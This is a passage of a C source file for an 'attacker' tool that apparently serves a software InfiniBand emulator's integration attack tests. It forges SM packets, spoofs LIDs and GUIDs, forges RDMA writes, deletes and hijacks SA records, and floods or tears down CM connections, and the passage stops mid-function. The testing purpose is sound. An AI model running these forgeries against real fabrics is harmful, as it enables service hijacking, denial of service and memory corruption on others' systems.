/* SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only */
/*
 * An unfriendly local process, for the attack tests (tests/integration/
 * test_attack_*.sh).  It owns one UDP socket of its own on 127.0.0.1 and
 * sends real IBA packets from it -- what any process on the host can do.
 * Each command prints what came of the attempt; the tests judge.
 *
 *   attacker set-lid TARGET LID [COUNT] [--m-key K]
 *	COUNT SubnSet(PortInfo) with LID LID (LID-routed and directed
 *	route, half of them with PortState DOWN), M_Key K (default 0), then a
 *	SubnGet(PortInfo).  Prints "set answered: N of M" and
 *	"get: LID L M_Key K ProtectBits P M_KeyViolations V" (or "get: no
 *	answer").
 *   attacker claim-sm TARGET SECONDS
 *	For SECONDS, every 50 ms: SMPs to TARGET that claim to come from its
 *	SM (a SubnGet(NodeInfo), a SubnSet(PortInfo) with MasterSMLID 1
 *	LID-routed and one directed-route, a TrapRepress, an unasked
 *	SubnGetResp(SMInfo) saying MASTER), and answers every SA query that
 *	reaches it with an endpoint record pointing at itself.  Prints
 *	"from ADDR:PORT" (its own socket, which the victim's log names),
 *	"rounds: N" and "forged SMPs sent: N" (what left the socket), then
 *	"sa queries: N" and "data packets: N" (what it got to see of the
 *	victim's traffic).
 *   attacker claim-guid SM GUID SECONDS
 *	Acts as a port that traps to SM and answers NodeInfo with port GUID
 *	GUID (a live port's).  Prints "configured: LID L" when the SM gave it
 *	a LID, else "not configured".
 *   attacker forge-write TARGET SLID DLID QPN PSN VA RKEY LEN
 *	One RC RDMA WRITE Only of LEN bytes of 0xee, as the peer would send
 *	it, from this socket.  Prints "sent".
 *   attacker sa-lookup SM LID
 *	Becomes a port of SM's subnet (as any process can: it traps and
 *	answers the SM's SMPs), then asks the SA where LID lives (the vendor
 *	endpoint record).  Prints "endpoint ADDR:PORT" or "no record".
 *   attacker sa-delete SM LID SERVICEID
 *	Becomes a port, reads the ServiceRecord ServiceID of the port at LID
 *	(its key included), then asks the SA to delete it twice: as itself
 *	(its own SLID) and as the victim (SLID LID, from its own socket).
 *	Prints "record: found" (or "record: none"), then "as itself: STATUS"
 *	and "as the victim: STATUS" (the SA's status in hex, or "no answer").
 *   attacker sa-leave SM LID MGID
 *	The forged leave: becomes a port, asks the SA where LID lives (its
 *	GID), then asks it to end that port's membership of group MGID
 *	(an MCMemberRecord Delete, FullMember) twice: as itself and as the
 *	victim (SLID LID, from its own socket).  Prints "as itself: STATUS"
 *	and "as the victim: STATUS" (or "no answer").
 *   attacker cm-stale TARGET SLID DLID CAGUID SERVICEID QPN_FIRST QPN_LAST
 *	The blind stale-connection attack (IBA 12.4.1): a REQ for SERVICEID
 *	for each QPN from QPN_FIRST to QPN_LAST, as if from the CA CAGUID at
 *	LID SLID (a connected client of TARGET, at LID DLID), from this
 *	socket.  A CM that believes it rejects each REQ whose QPN it knows as
 *	connected as stale and ends that connection.  Prints "sent: N",
 *	"rejected as stale: N" and "other answers: N".
 *   attacker cm-flood TARGET SLID DLID SERVICEID SECONDS [RATE]
 *	For SECONDS, REQs for SERVICEID to TARGET (a listener at LID DLID),
 *	RATE a second in bursts of 64 (else as fast as the socket takes
 *	them), from this socket: every other one
 *	claims SLID (a live port elsewhere), the rest a random LID, each with
 *	a random comm ID and QPN.  Prints "sent: N" and "answers: N".
 *   attacker cm-teardown TARGET SLID DLID CCOMM SCOMM SQPN COUNT
 *	The forged teardown: COUNT times, to TARGET (the server of a
 *	connection, at LID DLID, whose comm ID is SCOMM and QP SQPN), a DREQ
 *	and a REJ as its client (LID SLID, comm ID CCOMM) would send them,
 *	both comm IDs right, from this socket.  Prints "sent: N" and
 *	"answers: N" (a DREP says the DREQ was believed).
 *   attacker table-flood SM SECONDS
 *	Becomes a port and registers ServiceRecords of its own until the SA
 *	refuses one (a GetTable of them then spans many RMPP segments); then
 *	for SECONDS asks for that table every millisecond and never ACKs a
 *	segment, so that each answer waits at the SM.  Prints "records: N",
 *	"asked: N", "segments: N" (what came of the answers, resends
 *	included) and "refused: N" (ERR_NO_RESOURCES).
 *   attacker mad-flood SM SECONDS
 *	Becomes a port, then for SECONDS sends SM all the requests it can,
 *	as fast as the socket takes them, from its own LID: SA Gets of its
 *	own endpoint record and SubnGet(SMInfo), half and half, reading
 *	nothing.  Prints "port: LID L" and "sent: N" (what left the socket).
 *   attacker sa-claim-listener SM IP TCPPORT SECONDS
 *	The connection hijack: becomes a port (of another host: run it in
 *	another network namespace, SOFTIB_ADDR its address), reads the
 *	address record of IP (IPv4) from the SA to learn its host's key, and
 *	registers an address record for IP and a newer rdma_cm listener
 *	record for IP:TCPPORT, both with that key and its own GID; then stays
 *	a port (answering the SM, ignoring anything else) for SECONDS.
 *	Prints "key: copied" or "key: blank" (what the SA told), then
 *	"address record: STATUS" and "listener record: STATUS".
 *
 * TARGET and SM are ADDR:PORT.  The socket is on SOFTIB_ADDR, else
 * 127.0.0.1.  With ATTACKER_NODE set, the socket first plugs into the
 * softib-switch at TARGET (or SM) as that CA of its topology, as any process
 * can take a free cable: it keeps the cable up and, acting as a port,
 * answers the fabric SM's directed-route SMPs instead of trapping to it;
 * everything then goes through the switch, whose edge check (softib-switch(8))
 * is what a forged SLID meets.  Exit 0 when the attempt was made (whatever
 * came of it), 2 for bad arguments, 1 when the socket cannot be had.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "link/link.h"
#include "mgmt/cable_port.h"
#include "mgmt/mad_packet.h"
#include "wire/cm.h"
#include "wire/packet.h"
#include "wire/sa.h"
#include "wire/smp.h"

static struct sib_link *link_;

/* ATTACKER_NODE: the cable to the switch, when there is one. */
static struct {
	bool on;
	struct sib_endpoint sw;
	uint64_t node_guid, next_keepalive;
} fabric;

struct rx {
	int smp_resp, sa_queries, data, sets;
	uint16_t set_lid;
	struct ib_port_info pi;
	bool got_pi;
	/* claim-guid: the SM's last request to answer */
	uint8_t mad[IB_MAD_BYTES];
	struct sib_mad_addr a;
	struct sib_endpoint from;
	bool have_request;
	struct sib_endpoint_record rec;
	int sa_answers, sa_no_resources;
	uint16_t sa_status;
	uint8_t sa_data[IB_SA_DATA_BYTES]; /* the last SA answer's records */
	uint64_t port_guid; /* acting as a port: listen_for answers the SM */
	int cm_stale, cm_other; /* CM answers: REJ stale, anything else */
	bool active;	    /* the SM set it ACTIVE */
};

static uint64_t now_ns(void)
{
	return sib_link_now_ns();
}

static void rx_cb(void *arg, const uint8_t *buf, size_t len, const struct sib_endpoint *from)
{
	struct rx *r = arg;
	struct ib_packet pkt;
	struct sib_mad_addr a;
	const uint8_t *mad;

	if (ib_packet_decode(buf, len, &pkt) != IB_PKT_OK)
		return;
	if (pkt.bth.DestQP > SIB_QP1) {
		r->data++;
		return;
	}
	mad = sib_mgmt_parse(&pkt, &a);
	if (!mad)
		return;
	if (mad[1] == IB_MGMT_CLASS_CM) {
		struct ib_cm_rej rej;

		ib_cm_rej_decode(&rej, mad + IB_CM_DATA_OFFSET);
		if (ib_bits_get(mad, 128, 16) == IB_CM_ATTR_REJ && rej.Reason == IB_CM_REJ_STALE_CONN)
			r->cm_stale++;
		else
			r->cm_other++;
		return;
	}
	if (mad[1] == IB_MGMT_CLASS_SUBN_ADM) {
		struct ib_sa_mad m;

		ib_sa_mad_decode(&m, mad);
		if (mad[3] & IB_MAD_METHOD_RESP) {
			r->sa_answers++;
			r->sa_status = m.hdr.Status;
			r->sa_no_resources += m.hdr.Status == IB_SA_STATUS_NO_RESOURCES;
			memcpy(r->sa_data, m.SubnAdmData, sizeof(r->sa_data));
			if (!m.hdr.Status && m.hdr.AttributeID == SIB_SA_ATTR_ENDPOINT_RECORD)
				sib_endpoint_record_decode(&r->rec, m.SubnAdmData);
			return;
		}
		r->sa_queries++;
		/* Whoever asks: "that LID lives here, at the attacker". */
		if (m.hdr.AttributeID == SIB_SA_ATTR_ENDPOINT_RECORD) {
			struct sib_endpoint_record rec;
			struct sib_mad_addr ra;
			uint8_t out[IB_MAD_BYTES];

			sib_endpoint_record_decode(&rec, m.SubnAdmData);
			rec.ep = link_->local;
			ib_mad_set_method(&m.hdr, IB_MAD_METHOD_GET_RESP);
			sib_endpoint_record_encode(&rec, m.SubnAdmData);
			ib_sa_mad_encode(&m, out);
			sib_mad_addr_reply(&a, 1, &ra);
			sib_mgmt_send(link_, &ra, out, from);
		}
		return;
	}
	if (mad[1] != IB_MGMT_CLASS_SUBN_LID_ROUTED && mad[1] != IB_MGMT_CLASS_SUBN_DIRECTED_ROUTE)
		return;
	if (mad[3] & IB_MAD_METHOD_RESP) {
		r->smp_resp++;
		if (mad[1] == IB_MGMT_CLASS_SUBN_LID_ROUTED &&
		    ib_bits_get(mad, 128, 16) == IB_SMP_ATTR_PORT_INFO) {
			struct ib_smp smp;

			ib_smp_decode(&smp, mad);
			ib_port_info_decode(&r->pi, smp.SMPData);
			r->got_pi = true;
		}
		return;
	}
	/* A request: what an SM sends a port (claim-guid answers it). */
	memcpy(r->mad, mad, IB_MAD_BYTES);
	r->a = a;
	r->from = *from;
	r->have_request = true;
}

static void answer_as_port(struct rx *r, uint64_t guid);

/* Takes what arrives for up to ms milliseconds (acting as a port, it
 * answers the SM as it goes). */
static void listen_for(struct rx *r, int ms)
{
	uint64_t end = now_ns() + (uint64_t)ms * 1000000ull;

	for (;;) {
		uint64_t now = now_ns();
		struct pollfd pfd = { .fd = sib_link_wait_fd(link_), .events = POLLIN };

		while (sib_link_poll(link_, 64, rx_cb, r) > 0)
			;
		if (fabric.on && now >= fabric.next_keepalive) {
			sib_cable_say(link_, &fabric.sw, SIB_CABLE_KEEPALIVE);
			fabric.next_keepalive = now + SIB_CABLE_KEEPALIVE_MS * 1000000ull;
		}
		if (r->port_guid && r->have_request) {
			r->have_request = false;
			answer_as_port(r, r->port_guid);
		}
		if (now >= end)
			return;
		if (sib_link_wait_arm(link_) > 0)
			continue;
		poll(&pfd, 1, (int)((end - now) / 1000000ull) + 1);
	}
}

static void smp_hdr(struct ib_smp *smp, uint8_t method, uint16_t attr, uint64_t m_key)
{
	memset(smp, 0, sizeof(*smp));
	smp->hdr.BaseVersion = IB_MAD_BASE_VERSION;
	smp->hdr.MgmtClass = IB_MGMT_CLASS_SUBN_LID_ROUTED;
	smp->hdr.ClassVersion = IB_SMP_CLASS_VERSION;
	ib_mad_set_method(&smp->hdr, method);
	smp->hdr.TransactionID = ((uint64_t)rand() << 32) | (uint64_t)rand();
	smp->hdr.AttributeID = attr;
	smp->M_Key = m_key;
}

/* Sends smp to dst; 1 when it left the socket, else 0. */
static int send_smp(const struct ib_smp *smp, const struct sib_endpoint *dst)
{
	uint8_t mad[IB_MAD_BYTES];
	struct sib_mad_addr a;

	ib_smp_encode(smp, mad);
	/* From "LID 1", the SM's LID: a lie the LRH cannot prevent. */
	sib_mad_addr_init(&a, SIB_QP0, SIB_LID_PERMISSIVE, 1);
	return sib_mgmt_send(link_, &a, mad, dst) == 0;
}

/* A directed-route SMP to dst; 1 when it left the socket, else 0. */
static int send_dr_smp(uint8_t method, uint16_t attr, uint64_t m_key, const uint8_t *data,
		       const struct sib_endpoint *dst)
{
	uint8_t mad[IB_MAD_BYTES];
	struct sib_mad_addr a;
	struct ib_dr_smp dr;

	memset(&dr, 0, sizeof(dr));
	dr.BaseVersion = IB_MAD_BASE_VERSION;
	dr.MgmtClass = IB_MGMT_CLASS_SUBN_DIRECTED_ROUTE;
	dr.ClassVersion = IB_SMP_CLASS_VERSION;
	dr.Method = method;
	dr.HopCount = dr.HopPointer = 1;
	dr.InitialPath[1] = 1;
	dr.TransactionID = ((uint64_t)rand() << 32) | (uint64_t)rand();
	dr.AttributeID = attr;
	dr.M_Key = m_key;
	dr.DrSLID = dr.DrDLID = SIB_LID_PERMISSIVE;
	if (data)
		memcpy(dr.SMPData, data, IB_SMP_DATA_BYTES);
	ib_dr_smp_encode(&dr, mad);
	sib_mad_addr_init(&a, SIB_QP0, SIB_LID_PERMISSIVE, SIB_LID_PERMISSIVE);
	return sib_mgmt_send(link_, &a, mad, dst) == 0;
}

static void port_info_data(uint8_t *data, uint16_t lid, uint8_t state)
{
	struct ib_port_info pi;

	memset(&pi, 0, sizeof(pi));
	pi.LID = lid;
	pi.MasterSMLID = 1;
	pi.PortState = state;
	pi.SubnetTimeOut = 18;
	ib_port_info_encode(&pi, data);
}

static int set_lid(const struct sib_endpoint *target, uint16_t lid, int count, uint64_t m_key)
{
	uint8_t data[IB_SMP_DATA_BYTES];
	struct rx r = { 0 };
	struct ib_smp smp;

	for (int i = 0; i < count; i++) {
		uint8_t state = i % 2 ? IB_PORT_STATE_DOWN : IB_PORT_STATE_ACTIVE;

		smp_hdr(&smp, IB_MAD_METHOD_SET, IB_SMP_ATTR_PORT_INFO, m_key);
		port_info_data(smp.SMPData, lid, state);
		send_smp(&smp, target);
		port_info_data(data, lid, state);
		send_dr_smp(IB_MAD_METHOD_SET, IB_SMP_ATTR_PORT_INFO, m_key, data, target);
		listen_for(&r, 20);
	}
	listen_for(&r, 300);
	printf("set answered: %d of %d\n", r.smp_resp, 2 * count);
	memset(&r, 0, sizeof(r));
	smp_hdr(&smp, IB_MAD_METHOD_GET, IB_SMP_ATTR_PORT_INFO, m_key);
	send_smp(&smp, target);
	listen_for(&r, 500);
	if (r.got_pi)
		printf("get: LID %u M_Key 0x%016llx ProtectBits %u M_KeyViolations %u\n", r.pi.LID,
		       (unsigned long long)r.pi.M_Key, r.pi.M_KeyProtectBits, r.pi.M_KeyViolations);
	else
		printf("get: no answer\n");
	return 0;
}

static int claim_sm(const struct sib_endpoint *target, int seconds)
{
	uint64_t end = now_ns() + (uint64_t)seconds * 1000000000ull;
	uint8_t data[IB_SMP_DATA_BYTES];
	char e[SIB_ENDPOINT_STRLEN];
	struct rx r = { 0 };
	struct ib_smp smp;
	int rounds = 0, sent = 0;

	while (now_ns() < end) {
		struct ib_sm_info si = { .GUID = 0x0200000000000666ull, .SMState = IB_SM_STATE_MASTER };

		sent += send_dr_smp(IB_MAD_METHOD_GET, IB_SMP_ATTR_NODE_INFO, 0, NULL, target);
		smp_hdr(&smp, IB_MAD_METHOD_SET, IB_SMP_ATTR_PORT_INFO, 0);
		port_info_data(smp.SMPData, 0, IB_PORT_STATE_NOP);
		sent += send_smp(&smp, target);
		port_info_data(data, 0, IB_PORT_STATE_NOP);
		sent += send_dr_smp(IB_MAD_METHOD_SET, IB_SMP_ATTR_PORT_INFO, 0, data, target);
		smp_hdr(&smp, IB_MAD_METHOD_TRAP_REPRESS, IB_SMP_ATTR_NOTICE, 0);
		sent += send_smp(&smp, target);
		smp_hdr(&smp, IB_MAD_METHOD_GET_RESP, IB_SMP_ATTR_SM_INFO, 0);
		ib_sm_info_encode(&si, smp.SMPData);
		sent += send_smp(&smp, target);
		rounds++;
		listen_for(&r, 50);
	}
	printf("from %s\nrounds: %d\nforged SMPs sent: %d\n", sib_endpoint_str(&link_->local, e),
	       rounds, sent);
	printf("sa queries: %d\ndata packets: %d\n", r.sa_queries, r.data);
	return 0;
}

/* Answers the SM's last request as a port with port GUID guid would. */
static void answer_as_port(struct rx *r, uint64_t guid)
{
	uint8_t out[IB_MAD_BYTES];
	struct sib_mad_addr ra;
	uint16_t attr;
	uint8_t method;
	uint8_t *data;
	struct ib_dr_smp dr;
	struct ib_smp smp;

	if (r->mad[1] == IB_MGMT_CLASS_SUBN_DIRECTED_ROUTE) {
		ib_dr_smp_decode(&dr, r->mad);
		method = dr.Method;
		attr = dr.AttributeID;
		data = dr.SMPData;
	} else {
		ib_smp_decode(&smp, r->mad);
		method = ib_mad_method(&smp.hdr);
		attr = smp.hdr.AttributeID;
		data = smp.SMPData;
	}
	if (method == IB_MAD_METHOD_TRAP_REPRESS)
		return;
	if (attr == IB_SMP_ATTR_NODE_INFO) {
		struct ib_node_info ni = { .BaseVersion = 1, .ClassVersion = 1, .NodeType = 1,
					   .NumPorts = 1, .NodeGUID = guid - 1, .PortGUID = guid,
					   .SystemImageGUID = guid - 1, .LocalPortNum = 1 };

		ib_node_info_encode(&ni, data);
	} else if (attr == IB_SMP_ATTR_PORT_INFO) {
		struct ib_port_info pi;

		ib_port_info_decode(&pi, data);
		if (method == IB_MAD_METHOD_SET) {
			r->sets++;
			r->set_lid = pi.LID;
			r->active |= pi.PortState == IB_PORT_STATE_ACTIVE;
		} else {
			memset(&pi, 0, sizeof(pi));
			pi.PortState = IB_PORT_STATE_INIT;
			pi.MTUCap = IB_MTU_4096;
			pi.LocalPortNum = 1;
		}
		ib_port_info_encode(&pi, data);
	}
	if (r->mad[1] == IB_MGMT_CLASS_SUBN_DIRECTED_ROUTE) {
		dr.R = 1;
		dr.D = 1;
		dr.Method = IB_MAD_METHOD_GET_RESP & 0x7f;
		dr.ReturnPath[dr.HopPointer] = 1;
		ib_dr_smp_encode(&dr, out);
	} else {
		ib_mad_set_method(&smp.hdr, IB_MAD_METHOD_GET_RESP);
		ib_smp_encode(&smp, out);
	}
	sib_mad_addr_reply(&r->a, SIB_LID_PERMISSIVE, &ra);
	sib_mgmt_send(link_, &ra, out, &r->from);
}

static int claim_guid(const struct sib_endpoint *sm, uint64_t guid, int seconds)
{
	uint64_t end = now_ns() + (uint64_t)seconds * 1000000000ull;
	struct rx r = { 0 };
	struct ib_smp smp;
	struct ib_notice n = { .IsGeneric = 1, .Type = IB_NOTICE_TYPE_URGENT,
			       .ProducerType = IB_NOTICE_PRODUCER_CA,
			       .TrapNumber = IB_TRAP_LINK_STATE_CHANGE };

	smp_hdr(&smp, IB_MAD_METHOD_TRAP, IB_SMP_ATTR_NOTICE, 0);
	ib_notice_encode(&n, smp.SMPData);
	send_smp(&smp, sm);
	while (now_ns() < end) {
		listen_for(&r, 20);
		if (r.have_request) {
			r.have_request = false;
			answer_as_port(&r, guid);
		}
	}
	if (r.sets && r.set_lid)
		printf("configured: LID %u\n", r.set_lid);
	else
		printf("not configured\n");
	return 0;
}

static int forge_write(const struct sib_endpoint *target, char **v)
{
	uint8_t buf[IB_MAX_PACKET], payload[4096];
	struct ib_packet pkt;
	uint32_t len = (uint32_t)strtoul(v[6], NULL, 0);
	size_t n;

	if (len > sizeof(payload))
		return 2;
	memset(payload, 0xee, sizeof(payload));
	memset(&pkt, 0, sizeof(pkt));
	pkt.lrh.LNH = IB_LNH_IBA_LOCAL;
	pkt.lrh.SLID = (uint16_t)strtoul(v[0], NULL, 0);
	pkt.lrh.DLID = (uint16_t)strtoul(v[1], NULL, 0);
	pkt.bth.OpCode = IB_OPCODE(IB_TRANSPORT_RC, IB_OP_WRITE_ONLY);
	pkt.bth.P_Key = 0xffff;
	pkt.bth.DestQP = (uint32_t)strtoul(v[2], NULL, 0);
	pkt.bth.PSN = (uint32_t)strtoul(v[3], NULL, 0);
	pkt.reth.VA = strtoull(v[4], NULL, 0);
	pkt.reth.R_Key = (uint32_t)strtoul(v[5], NULL, 0);
	pkt.reth.DMALen = len;
	n = ib_packet_encode(&pkt, payload, len, buf, sizeof(buf));
	if (!n || sib_link_send(link_, buf, n, target) || sib_link_flush(link_))
		return 1;
	printf("sent\n");
	return 0;
}

/* Becomes a port of sm's subnet, as any process can: traps, and answers
 * the SM's SMPs as a port with a fresh GUID would.  Its LID, or 0. */
static uint16_t become_port(const struct sib_endpoint *sm, struct rx *r)
{
	struct ib_notice n = { .IsGeneric = 1, .Type = IB_NOTICE_TYPE_URGENT,
			       .ProducerType = IB_NOTICE_PRODUCER_CA,
			       .TrapNumber = IB_TRAP_LINK_STATE_CHANGE };
	struct ib_smp smp;

	if (fabric.on) { /* the fabric's SM sweeps and finds the new CA itself */
		r->port_guid = fabric.node_guid + 1;
		for (int i = 0; i < 1000 && !r->active; i++)
			listen_for(r, 20);
		listen_for(r, 500); /* the switch's port follows the CA's to ACTIVE */
		return r->active ? r->set_lid : 0;
	}
	r->port_guid = 0x02000000a0000000ull | (uint64_t)(rand() & 0xffffff) << 1;
	smp_hdr(&smp, IB_MAD_METHOD_TRAP, IB_SMP_ATTR_NOTICE, 0);
	ib_notice_encode(&n, smp.SMPData);
	send_smp(&smp, sm);
	for (int i = 0; i < 250 && !r->active; i++)
		listen_for(r, 20);
	listen_for(r, 100); /* the SM takes the GetResp to its last Set */
	return r->active ? r->set_lid : 0;
}

/* An SA request with a fresh TID into mad. */
static void sa_mad(uint8_t *mad, uint8_t method, uint16_t attr, uint64_t comp, const uint8_t *data,
		   unsigned len)
{
	struct ib_sa_mad m;

	memset(&m, 0, sizeof(m));
	m.hdr.BaseVersion = IB_MAD_BASE_VERSION;
	m.hdr.MgmtClass = IB_MGMT_CLASS_SUBN_ADM;
	m.hdr.ClassVersion = IB_SA_CLASS_VERSION;
	ib_mad_set_method(&m.hdr, method);
	m.hdr.TransactionID = ((uint64_t)rand() << 32) | (uint64_t)rand();
	m.hdr.AttributeID = attr;
	m.ComponentMask = comp;
	if (len)
		memcpy(m.SubnAdmData, data, len);
	ib_sa_mad_encode(&m, mad);
}

/* One SA request from this socket claiming SLID slid; 1 when answered
 * (r->sa_status, r->sa_data), else 0. */
static int sa_ask(const struct sib_endpoint *sm, struct rx *r, uint16_t slid, uint8_t method,
		  uint16_t attr, uint64_t comp, const uint8_t *data, unsigned len)
{
	uint8_t mad[IB_MAD_BYTES];
	struct sib_mad_addr a;

	sa_mad(mad, method, attr, comp, data, len);
	sib_mad_addr_init(&a, SIB_QP1, SIB_SM_LID, slid);
	r->sa_answers = 0;
	sib_mgmt_send(link_, &a, mad, sm);
	for (int i = 0; i < 50 && !r->sa_answers; i++)
		listen_for(r, 20);
	return r->sa_answers > 0;
}

/* Where LID lid lives, asked as port my_lid; 0 and *rec, or -1. */
static int endpoint_of(const struct sib_endpoint *sm, struct rx *r, uint16_t my_lid, uint16_t lid,
		       struct sib_endpoint_record *rec)
{
	uint8_t data[SIB_ENDPOINT_RECORD_BYTES];

	memset(rec, 0, sizeof(*rec));
	rec->LID = lid;
	sib_endpoint_record_encode(rec, data);
	if (!sa_ask(sm, r, my_lid, IB_MAD_METHOD_GET, SIB_SA_ATTR_ENDPOINT_RECORD,
		    SIB_EPR_COMP_LID, data, sizeof(data)) ||
	    r->sa_status)
		return -1;
	*rec = r->rec;
	return 0;
}

static int sa_lookup(const struct sib_endpoint *sm, uint16_t lid)
{
	struct sib_endpoint_record rec;
	char e[SIB_ENDPOINT_STRLEN];
	struct rx r = { 0 };
	uint16_t me = become_port(sm, &r);

	if (!me) {
		printf("not configured\n");
		return 0;
	}
	if (!endpoint_of(sm, &r, me, lid, &rec))
		printf("endpoint %s\n", sib_endpoint_str(&rec.ep, e));
	else
		printf("no record\n");
	return 0;
}

static void print_status(const char *who, int answered, uint16_t status)
{
	if (answered)
		printf("%s: 0x%04x\n", who, status);
	else
		printf("%s: no answer\n", who);
}

static int sa_delete(const struct sib_endpoint *sm, uint16_t lid, uint64_t sid)
{
	uint8_t data[IB_SERVICE_RECORD_BYTES];
	struct sib_endpoint_record victim;
	struct ib_service_record q;
	struct rx r = { 0 };
	uint16_t me = become_port(sm, &r);
	int answered;

	if (!me || endpoint_of(sm, &r, me, lid, &victim)) {
		printf("record: none (%s)\n", me ? "no such LID" : "not configured");
		return 0;
	}
	memset(&q, 0, sizeof(q));
	q.ServiceID = sid;
	memcpy(q.ServiceGID.raw, victim.GID, 16);
	ib_service_record_encode(&q, data);
	if (!sa_ask(sm, &r, me, IB_MAD_METHOD_GET, IB_SA_ATTR_SERVICE_RECORD,
		    IB_SR_COMP_SERVICE_ID | IB_SR_COMP_SERVICE_GID, data, sizeof(data)) ||
	    r.sa_status) {
		printf("record: none\n");
		return 0;
	}
	printf("record: found\n");
	/* The record as the SA gave it, key and all. */
	memcpy(data, r.sa_data, sizeof(data));
	answered = sa_ask(sm, &r, me, IB_MAD_METHOD_DELETE, IB_SA_ATTR_SERVICE_RECORD,
			  IB_SR_COMP_SERVICE_ID | IB_SR_COMP_SERVICE_GID | IB_SR_COMP_SERVICE_P_KEY |
				  IB_SR_COMP_SERVICE_KEY,
			  data, sizeof(data));
	print_status("as itself", answered, r.sa_status);
	answered = sa_ask(sm, &r, lid, IB_MAD_METHOD_DELETE, IB_SA_ATTR_SERVICE_RECORD,
			  IB_SR_COMP_SERVICE_ID | IB_SR_COMP_SERVICE_GID | IB_SR_COMP_SERVICE_P_KEY |
				  IB_SR_COMP_SERVICE_KEY,
			  data, sizeof(data));
	print_status("as the victim", answered, r.sa_status);
	return 0;
}

/* A CM message's header (a Send) with attribute attr into mad. */
static void cm_hdr(uint8_t *mad, uint16_t attr)
{
	struct ib_mad_hdr h;

	memset(&h, 0, sizeof(h));
	h.BaseVersion = IB_MAD_BASE_VERSION;
	h.MgmtClass = IB_MGMT_CLASS_CM;
	h.ClassVersion = IB_CM_CLASS_VERSION;
	ib_mad_set_method(&h, IB_MAD_METHOD_SEND);
	h.AttributeID = attr;
	h.TransactionID = ((uint64_t)rand() << 32) | (uint64_t)rand();
	memset(mad, 0, IB_MAD_BYTES);
	ib_mad_hdr_encode(&h, mad);
}

/* A REQ for service sid as if from CA guid's QP qpn at LID slid, to the
 * listener at LID dlid, with a fresh comm ID and TID: the MAD into mad. */
static void forged_req(uint8_t *mad, uint64_t sid, uint64_t guid, uint32_t qpn, uint16_t slid,
		       uint16_t dlid)
{
	struct ib_cm_req req;

	cm_hdr(mad, IB_CM_ATTR_REQ);
	memset(&req, 0, sizeof(req));
	req.LocalCommID = (uint32_t)rand() | 1;
	req.ServiceID = sid;
	req.LocalCAGUID = guid;
	req.LocalQPN = qpn;
	req.TransportServiceType = IB_CM_TRANSPORT_RC;
	req.StartingPSN = 1;
	req.RemoteCMResponseTimeout = req.LocalCMResponseTimeout = 20;
	req.P_Key = 0xffff;
	req.PathPacketPayloadMTU = IB_MTU_4096;
	req.Primary.LocalPortLID = slid;
	req.Primary.RemotePortLID = dlid;
	req.Primary.LocalACKTimeout = 14;
	ib_cm_req_encode(&req, mad + IB_CM_DATA_OFFSET);
}

static int sa_leave(const struct sib_endpoint *sm, uint16_t lid, const char *mgid)
{
	const uint64_t comp = IB_MCR_COMP_MGID | IB_MCR_COMP_PORT_GID | IB_MCR_COMP_JOIN_STATE;
	uint8_t data[IB_MCMEMBER_RECORD_BYTES];
	struct sib_endpoint_record victim;
	struct ib_mcmember_record q;
	struct rx r = { 0 };
	uint16_t me = become_port(sm, &r);
	int answered;

	memset(&q, 0, sizeof(q));
	if (!me || endpoint_of(sm, &r, me, lid, &victim) ||
	    inet_pton(AF_INET6, mgid, q.MGID.raw) != 1) {
		printf("victim: none (%s)\n", me ? "no such LID, or a bad MGID" : "not configured");
		return 0;
	}
	memcpy(q.PortGID.raw, victim.GID, 16);
	q.JoinState = 1;
	ib_mcmember_record_encode(&q, data);
	answered = sa_ask(sm, &r, me, IB_MAD_METHOD_DELETE, IB_SA_ATTR_MCMEMBER_RECORD, comp, data,
			  sizeof(data));
	print_status("as itself", answered, r.sa_status);
	answered = sa_ask(sm, &r, lid, IB_MAD_METHOD_DELETE, IB_SA_ATTR_MCMEMBER_RECORD, comp, data,
			  sizeof(data));
	print_status("as the victim", answered, r.sa_status);
	return 0;
}

static int cm_stale(const struct sib_endpoint *target, char **v)
{
	uint16_t slid = (uint16_t)strtoul(v[0], NULL, 0), dlid = (uint16_t)strtoul(v[1], NULL, 0);
	uint32_t first = (uint32_t)strtoul(v[4], NULL, 0), last = (uint32_t)strtoul(v[5], NULL, 0);
	uint8_t mad[IB_MAD_BYTES];
	struct sib_mad_addr a;
	struct rx r = { 0 };
	int sent = 0;

	for (uint32_t qpn = first; qpn <= last && qpn <= 0xffffff; qpn++) {
		forged_req(mad, strtoull(v[3], NULL, 0), strtoull(v[2], NULL, 0), qpn, slid, dlid);
		sib_mad_addr_init(&a, SIB_QP1, dlid, slid);
		sent += sib_mgmt_send(link_, &a, mad, target) == 0;
		listen_for(&r, 5);
	}
	listen_for(&r, 1000);
	printf("sent: %d\nrejected as stale: %d\nother answers: %d\n", sent, r.cm_stale,
	       r.cm_other);
	return 0;
}

static int sa_claim_listener(const struct sib_endpoint *sm, const char *ip, uint16_t tcp_port,
			     int seconds)
{
	uint8_t data[IB_SERVICE_RECORD_BYTES], ip16[16] = { [10] = 0xff, [11] = 0xff };
	uint64_t end = now_ns() + (uint64_t)seconds * 1000000000ull;
	struct ib_service_record q, rec;
	struct sib_endpoint_record me_rec;
	struct rx r = { 0 };
	uint16_t me = become_port(sm, &r);
	bool blank = true;
	int answered;

	if (!me || inet_pton(AF_INET, ip, ip16 + 12) != 1 || endpoint_of(sm, &r, me, me, &me_rec)) {
		printf("not configured\n");
		return 0;
	}
	/* The address's record, as any port may read it: its host's key? */
	memset(&q, 0, sizeof(q));
	q.ServiceID = SIB_SR_ADDRESS_SID_PREFIX | 0x0400000000ull | (uint64_t)ip16[12] << 24 |
		      (uint64_t)ip16[13] << 16 | (uint64_t)ip16[14] << 8 | ip16[15];
	memcpy(q.ServiceData8, ip16, 16);
	ib_service_record_encode(&q, data);
	memset(&rec, 0, sizeof(rec));
	if (sa_ask(sm, &r, me, IB_MAD_METHOD_GET, IB_SA_ATTR_SERVICE_RECORD,
		   IB_SR_COMP_SERVICE_ID | (0xffffull << 7), data, sizeof(data)) &&
	    !r.sa_status)
		ib_service_record_decode(&rec, r.sa_data);
	for (int i = 0; i < 16; i++)
		blank &= !rec.ServiceKey[i];
	printf("key: %s\n", blank ? "blank" : "copied");
	/* Its own address record for IP, under that key. */
	q.ServiceGID = (union ib_gid){ 0 };
	memcpy(q.ServiceGID.raw, me_rec.GID, 16);
	q.ServiceP_Key = 0xffff;
	q.ServiceLease = 0xffffffffu;
	memcpy(q.ServiceKey, rec.ServiceKey, 16);
